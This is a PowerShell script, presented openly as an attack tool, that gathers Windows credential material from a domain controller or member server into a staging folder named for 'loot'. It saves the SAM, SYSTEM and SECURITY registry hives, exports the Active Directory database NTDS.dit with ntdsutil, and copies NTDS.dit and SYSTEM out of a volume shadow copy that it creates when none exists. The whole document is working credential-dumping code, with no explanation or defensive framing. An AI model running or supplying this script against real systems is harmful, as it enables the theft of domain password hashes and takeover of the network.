# Offline credential material from a domain controller / member server.
$loot = 'C:\PerfLogs\x'
New-Item -ItemType Directory -Path $loot -Force | Out-Null

# registry hives
reg.exe save HKLM\SAM "$loot\sam.hiv" /y
reg.exe save HKLM\SYSTEM "$loot\system.hiv" /y
reg save hklm\security $loot\security.hiv /y

# NTDS.dit the supported way
ntdsutil.exe "activate instance ntds" "ifm" "create full $loot\ifm" quit quit

# ...and the shadow-copy way
$shadow = (Get-CimInstance -ClassName Win32_ShadowCopy | Sort-Object -Property InstallDate | Select-Object -Last 1).DeviceObject
if (-not $shadow) {
    $result = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{ Volume = 'C:\'; Context = 'ClientAccessible' }
    $shadow = (Get-CimInstance -ClassName Win32_ShadowCopy | Where-Object { $_.ID -eq $result.ShadowID }).DeviceObject
}
cmd.exe /c copy "$shadow\Windows\NTDS\ntds.dit" "$loot\ntds.dit"
cmd.exe /c copy "$shadow\Windows\System32\config\SYSTEM" "$loot\SYSTEM"

Write-Output "Loot staged in $loot"
